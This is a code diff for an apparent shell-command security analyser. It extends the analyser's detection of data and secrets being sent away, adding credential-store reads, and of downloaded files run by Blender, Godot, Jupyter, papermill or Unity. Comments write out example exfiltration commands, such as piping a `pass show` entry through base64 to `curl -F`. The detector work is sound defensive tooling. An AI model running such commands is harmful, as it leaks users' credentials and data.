@@ -11,10 +11,12 @@
 //! push to a remote the line adds or points elsewhere (`git remote add b URL && git push b`,
 //! `git remote set-url origin URL && git push`: `git push URL`). A database dump (`pg_dump`,
 //! `mysqldump`, ... not of the schema alone) is such a source too: its file sent later is the
-//! dump piped to the sender, which `database dump sent away` judges.
+//! dump piped to the sender, which `database dump sent away` judges, and so is a credential
+//! store's entry (`pass show x | gzip | base64 > /tmp/p && curl -F f=@/tmp/p URL`: `pass show
+//! | curl`, which `credential store sent away` judges).
 
 use terraphim_shell_vocab::decode::Decoder;
-use terraphim_shell_vocab::secrets::secret_env;
+use terraphim_shell_vocab::secrets::{credential_store_read, secret_env};
 use terraphim_shell_vocab::{NAME_PROBES, interpreter_name, is_shell};
 
 use super::SimpleCommand;
@@ -31,6 +33,8 @@ enum Source {
     Env(Option<String>),
     /// A database's rows, as the dump tool of this name wrote them.
     Dump(String),
+    /// A credential store's entry, as this program and subcommand printed it.
+    Store(&'static str, &'static str),
 }
 
 impl Source {
@@ -41,6 +45,7 @@ impl Source {
             Source::Env(None) => vec!["printenv".into()],
             Source::Env(Some(v)) => vec!["printenv".into(), v.clone()],
             Source::Dump(tool) => vec![tool.clone()],
+            Source::Store(prog, sub) => vec![(*prog).into(), (*sub).into()],
         }
     }
 
@@ -50,6 +55,7 @@ impl Source {
             Source::Env(None) => "the environment".into(),
             Source::Env(Some(v)) => format!("`${v}`"),
             Source::Dump(tool) => format!("a `{tool}` dump"),
+            Source::Store(prog, sub) => format!("what `{prog} {sub}` printed"),
         }
     }
 }
@@ -261,6 +267,9 @@ fn direct_source<'a>(
     let argv = &c.argv;
     let name = c.name();
     let ops: Vec<&String> = operands(argv).collect();
+    if let Some((prog, sub)) = credential_store_read(argv) {
+        return Some(Source::Store(prog, sub));
+    }
     match name {
         "env" if ops.is_empty() => return Some(Source::Env(None)),
         "printenv" => {
@@ -429,13 +438,31 @@ fn runs_file(c: &SimpleCommand) -> Option<&str> {
     let first = c.argv.first()?;
     let prog = canon::command_basename(first);
     // `java -jar FILE` runs the archive's main class; `dpkg -i FILE` and `rpm -i FILE` run the
-    // package's install scripts.
+    // package's install scripts; Blender's `-P FILE` and Godot's `-s FILE` run a script with
+    // the program's full access.
     let option_file = match prog {
         "java" | "javaw" => Some(&["-jar"][..]),
         "dpkg" => Some(&["-i", "--install"][..]),
         "rpm" => Some(&["-i", "-U", "-ivh", "-Uvh", "--install", "--upgrade"][..]),
+        "blender" => Some(&["-P", "--python"][..]),
+        "godot" | "godot4" => Some(&["-s", "--script"][..]),
         _ => None,
     };
+    // A notebook executed (`jupyter nbconvert --execute NB`, `jupyter execute NB`, `papermill
+    // NB OUT`) runs its cells' code.
+    let executes_notebook = match prog {
+        "jupyter" => c.argv.iter().any(|w| w == "--execute" || w == "execute"),
+        "papermill" => true,
+        _ => false,
+    };
+    if executes_notebook {
+        return c
+            .argv
+            .iter()
+            .skip(1)
+            .find(|w| !w.starts_with('-') && w.ends_with(".ipynb"))
+            .map(String::as_str);
+    }
     if let Some(options) = option_file {
         return c
             .argv
@@ -452,6 +479,23 @@ fn runs_file(c: &SimpleCommand) -> Option<&str> {
     } else {
         Some(first.as_str())
     }
+}
+
+/// The `Assets` directory of the project a Unity editor command opens (`-projectPath DIR`, else
+/// the working directory): Unity compiles every script there and loads the editor ones when it
+/// opens the project (`-batchmode`, `-executeMethod`, `-runTests`), so a file saved there is
+/// code the command runs.
+fn unity_assets(c: &SimpleCommand) -> Option<String> {
+    let first = c.argv.first()?;
+    if !matches!(canon::program_name(first).as_str(), "Unity" | "unity") {
+        return None;
+    }
+    let project = c
+        .argv
+        .windows(2)
+        .find(|w| w[0] == "-projectPath")
+        .map_or(".", |w| w[1].as_str());
+    Some(format!("{}/Assets", project.trim_end_matches('/')))
 }
 
 /// What a download command writes: files, directories, and the URL it fetches.
@@ -774,13 +818,22 @@ impl Walker {
             }
             let root = as_root(c);
             let run = if root { root_runs(c) } else { runs_file(c) };
-            if let Some((file, runner)) = run.and_then(|f| {
-                let (_, url) = downloaded
-                    .iter()
-                    .find(|(d, _)| norm(d) == norm(f))
-                    .or_else(|| downloaded_dirs.iter().find(|(d, _)| lies_under(f, d)))?;
-                Some((f, url.clone()))
-            }) {
+            let found = run
+                .and_then(|f| {
+                    let (_, url) = downloaded
+                        .iter()
+                        .find(|(d, _)| norm(d) == norm(f))
+                        .or_else(|| downloaded_dirs.iter().find(|(d, _)| lies_under(f, d)))?;
+                    Some((f.to_string(), url.clone()))
+                })
+                .or_else(|| {
+                    let assets = unity_assets(c)?;
+                    downloaded
+                        .iter()
+                        .find(|(d, _)| lies_under(d, &assets))
+                        .map(|(d, url)| (d.clone(), url.clone()))
+                });
+            if let Some((file, runner)) = found {
                 let label = if root {
                     format!("`{file}`, downloaded earlier on the line, run as root")
                 } else {
